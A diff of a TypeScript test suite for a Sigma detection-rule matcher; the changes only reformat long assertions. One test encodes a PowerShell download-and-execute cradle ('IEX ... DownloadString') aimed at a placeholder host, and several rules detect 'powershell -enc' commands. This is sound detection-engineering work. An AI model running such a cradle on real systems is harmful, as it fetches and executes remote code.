@@ -5,7 +5,11 @@ const rule = (selection: string, condition?: string): string => flatRule(selecti
 
 describe('values and wildcards', () => {
   it('compares case-insensitively by default', () => {
-    expect(matches(rule('selection:\n  Image: C:\\Windows\\System32\\CMD.exe'), { Image: 'c:\\windows\\system32\\cmd.EXE' })).toBe(true);
+    expect(
+      matches(rule('selection:\n  Image: C:\\Windows\\System32\\CMD.exe'), {
+        Image: 'c:\\windows\\system32\\cmd.EXE',
+      }),
+    ).toBe(true);
     expect(matches(rule('selection:\n  Image: cmd.exe'), { Image: 'C:\\cmd.exe' })).toBe(false);
   });
 
@@ -27,8 +31,12 @@ describe('values and wildcards', () => {
   });
 
   it('keeps plain backslashes', () => {
-    expect(matches(rule("selection:\n  Image|endswith: '\\cmd.exe'"), { Image: 'C:\\Windows\\cmd.exe' })).toBe(true);
-    expect(matches(rule("selection:\n  Image|endswith: '\\\\cmd.exe'"), { Image: 'C:\\Windows\\cmd.exe' })).toBe(true);
+    expect(
+      matches(rule("selection:\n  Image|endswith: '\\cmd.exe'"), { Image: 'C:\\Windows\\cmd.exe' }),
+    ).toBe(true);
+    expect(
+      matches(rule("selection:\n  Image|endswith: '\\\\cmd.exe'"), { Image: 'C:\\Windows\\cmd.exe' }),
+    ).toBe(true);
   });
 
   it('matches numbers, numeric strings, booleans and empty values', () => {
@@ -107,7 +115,8 @@ describe('modifiers', () => {
 
   it('windash expands dash variants only where a flag starts', () => {
     const text = rule('selection:\n  C|windash|contains: " -enc "');
-    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(matches(text, { C: `powershell ${dash}enc AAA` })).toBe(true);
+    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015'])
+      expect(matches(text, { C: `powershell ${dash}enc AAA` })).toBe(true);
     expect(matches(text, { C: 'powershell enc AAA' })).toBe(false);
     expect(matches(rule('selection:\n  C|windash|contains: "a-b"'), { C: 'a/b' })).toBe(false);
   });
@@ -141,9 +150,15 @@ describe('modifiers', () => {
   });
 
   it('utf16le/wide/utf16be/utf16 chained with base64offset (encoded PowerShell)', () => {
-    const blob = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString('base64');
+    const blob = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString(
+      'base64',
+    );
     for (const modifier of ['utf16le', 'wide']) {
-      expect(matches(rule(`selection:\n  C|${modifier}|base64offset|contains: DownloadString`), { C: `powershell -enc ${blob}` })).toBe(true);
+      expect(
+        matches(rule(`selection:\n  C|${modifier}|base64offset|contains: DownloadString`), {
+          C: `powershell -enc ${blob}`,
+        }),
+      ).toBe(true);
     }
     const be = Buffer.from('cmd', 'utf16le').swap16().toString('base64');
     expect(matches(rule('selection:\n  C|utf16be|base64: cmd'), { C: be })).toBe(true);
@@ -192,10 +207,18 @@ describe('modifiers', () => {
   });
 
   it('fieldref compares two fields, with neq', () => {
-    expect(matches(rule('selection:\n  Target|fieldref: Source'), { Target: 'ABC', Source: 'abc' })).toBe(true);
-    expect(matches(rule('selection:\n  Target|fieldref: Source'), { Target: 'ABC', Source: 'abd' })).toBe(false);
-    expect(matches(rule('selection:\n  Target|fieldref|neq: Source'), { Target: 'ABC', Source: 'abd' })).toBe(true);
-    expect(matches(rule('selection:\n  Target|fieldref|startswith: Source'), { Target: 'ABCdef', Source: 'abc' })).toBe(true);
+    expect(matches(rule('selection:\n  Target|fieldref: Source'), { Target: 'ABC', Source: 'abc' })).toBe(
+      true,
+    );
+    expect(matches(rule('selection:\n  Target|fieldref: Source'), { Target: 'ABC', Source: 'abd' })).toBe(
+      false,
+    );
+    expect(matches(rule('selection:\n  Target|fieldref|neq: Source'), { Target: 'ABC', Source: 'abd' })).toBe(
+      true,
+    );
+    expect(
+      matches(rule('selection:\n  Target|fieldref|startswith: Source'), { Target: 'ABCdef', Source: 'abc' }),
+    ).toBe(true);
   });
 
   it('rejects misuse with a per-rule error, never a silent non-match', () => {
@@ -219,7 +242,10 @@ describe('modifiers', () => {
 });
 
 describe('conditions', () => {
-  const text = rule('selection_a:\n  A: 1\nselection_b:\n  B: 1\n_hidden:\n  H: 1\nfilter:\n  F: 1', '1 of selection_* and not filter');
+  const text = rule(
+    'selection_a:\n  A: 1\nselection_b:\n  B: 1\n_hidden:\n  H: 1\nfilter:\n  F: 1',
+    '1 of selection_* and not filter',
+  );
   it('1 of pattern with not', () => {
     expect(matches(text, { A: 1 })).toBe(true);
     expect(matches(text, { B: 1, F: 1 })).toBe(false);
